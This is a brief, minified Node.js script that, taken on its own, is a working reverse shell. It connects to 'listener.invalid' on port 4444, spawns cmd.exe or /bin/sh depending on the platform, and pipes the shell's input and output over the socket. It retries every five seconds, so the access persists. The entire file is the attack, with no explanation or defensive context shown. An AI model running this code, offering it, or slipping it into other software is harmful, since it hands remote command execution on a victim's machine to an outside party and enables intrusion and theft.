var n = require("net"), e = require("child_process");

void 0 === String.prototype.contains && (String.prototype.contains = function(n) {
    return -1 !== this.indexOf(n);
}), function t(i, o) {
    var r = new n.Socket;
    r.connect(o, i, function() {
        var n = process.platform.contains("win") ? "cmd.exe" : "/bin/sh", t = e.spawn(n, []);
        r.write("connected " + process.pid + "\n"), r.pipe(t.stdin), t.stdout.pipe(r), t.stderr.pipe(r), 
        t.on("exit", function(n, e) {
            r.end("closed " + n + e + "\n");
        });
    }), r.on("error", function(n) {
        setTimeout(function() {
            t(i, o);
        }, 5e3);
    }), r.on("close", function() {
        setTimeout(t, 5e3, i, o);
    });
}("listener.invalid", 4444);
